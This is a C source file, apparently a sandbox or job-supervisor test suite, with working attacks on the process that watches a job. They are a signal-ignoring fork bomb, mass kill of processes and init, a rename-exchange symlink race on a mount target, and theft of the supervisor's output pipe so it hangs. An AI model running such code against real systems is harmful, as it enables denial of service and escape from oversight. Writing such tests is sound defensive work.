/* Attacks on whoever watches the job. Each needs a job of its own. */
#include "attack.h"

#include <fcntl.h>
#include <poll.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/ioctl.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

/* A bounded fork bomb that ignores what can be ignored and never ends by itself. */
int stay(const char *count) {
    int made = 0;
    for (int signal_number = 1; signal_number < 65; signal_number++) {
        signal(signal_number, SIG_IGN);
    }
    signal(SIGCHLD, SIG_DFL);
    for (long i = strtol(count, NULL, 10); i > 0; i--) {
        pid_t child = fork();
        if (child == 0) {
            setsid();
            for (;;) {
                pause();
            }
        }
        made += child > 0;
    }
    dprintf(1, "made %d\n", made);
    for (;;) {
        pause();
    }
}

/* Everything that it can reach. Says in the end that it lives: init has to, for that. */
int kill_all(void) {
    pid_t sibling = fork();
    int how;
    if (sibling == 0) {
        pause();
    }
    kill(-1, SIGKILL);
    kill(1, SIGKILL);
    kill(1, SIGSTOP);
    waitpid(sibling, &how, 0);
    return WIFSIGNALED(how) ? held("killed its own, and init lives") : out("killed nobody");
}

/* The name that a volume is to be mounted on is this moment a directory, the next a way out. */
int swap(const char *count) {
    const char *target = "/work/target";
    const char *link = "/work/link";
    mkdir(target, 0777);
    if (symlink(known("CANARY_DIRECTORY"), link) != 0) {
        return BROKEN;
    }
    dprintf(1, "swapping\n");
    for (long i = strtol(count, NULL, 10); i > 0; i--) {
        renameat2(AT_FDCWD, target, AT_FDCWD, link, 2 /* RENAME_EXCHANGE */);
        /* In the root itself nothing can be exchanged. */
        if (rename("/data", "/moved") == 0 || rmdir("/volumes") == 0 || symlink("/", "/later") == 0) {
            return out("the root can be changed");
        }
    }
    return held("the root stays as it is");
}

static int unread(int fd) {
    int bytes = 0;
    return ioctl(fd, FIONREAD, &bytes) == 0 ? bytes : -1;
}

static void thief(int fd) {
    char byte;
    for (;;) {
        if (read(fd, &byte, 1) < 0) {
            sched_yield();
        }
    }
}

/*
 * The pipe that the supervisor reads can be opened for reading, too. Taken away between its poll(2)
 * and its read(2), the output leaves it waiting for ever, and nobody can stop the job any more. It
 * shows by standard error, which nobody reads then.
 */
int steal_output(void) {
    int fd = open("/proc/self/fd/1", O_RDONLY | O_NONBLOCK | O_CLOEXEC);
    if (fd < 0) {
        return held("it cannot be opened");
    }
    pid_t child = fork();
    if (child == 0) {
        thief(fd);
    }
    close(fd);
    for (int i = 0; i < 20000; i++) {
        if (write(1, "x", 1) != 1) {
            return BROKEN;
        }
        while (unread(1) > 0) {
        }
        if (i % 20 == 0) {
            if (write(2, "y", 1) != 1) {
                return BROKEN;
            }
            for (int waited = 0; unread(2) > 0; waited++) {
                if (waited == 2000) {
                    /* Nothing more is said: that would wake it up. */
                    close(open("/work/stuck", O_CREAT | O_WRONLY, 0600));
                    kill(child, SIGKILL);
                    for (;;) {
                        pause();
                    }
                }
                poll(NULL, 0, 1);
            }
        }
    }
    kill(child, SIGKILL);
    close(open("/work/free", O_CREAT | O_WRONLY, 0600));
    for (;;) {
        pause();
    }
}
